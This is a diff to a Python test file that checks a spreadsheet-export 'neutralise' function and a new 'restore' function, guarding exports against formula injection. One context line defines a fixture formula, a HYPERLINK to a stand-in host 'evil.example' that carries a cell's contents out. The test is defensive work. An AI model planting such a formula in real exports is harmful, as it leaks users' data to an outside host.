@@ -10,6 +10,7 @@ from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from django_tables2.export.views import ExportMixin
 
 from tests.factories import InitiativeFactory
+from tollgate.spreadsheet import restore
 from tollgate.ui.exports import SafeTableExport, neutralise
 
 PLANTED = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
@@ -32,6 +33,13 @@ PLANTED = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
 ])
 def test_neutralise(cell, shown):
     assert neutralise(cell) == shown
+    if isinstance(cell, str):
+        assert restore(shown) == cell  # a file Tollgate wrote reads back as it was
+
+
+def test_restore_takes_off_only_an_apostrophe_neutralise_added():
+    assert restore("'Claims") == "'Claims"  # typed by a person: kept
+    assert restore("'-1,200.50") == "'-1,200.50"  # a number is never neutralised, so its apostrophe is the person's
 
 
 def _views(patterns, prefix=""):
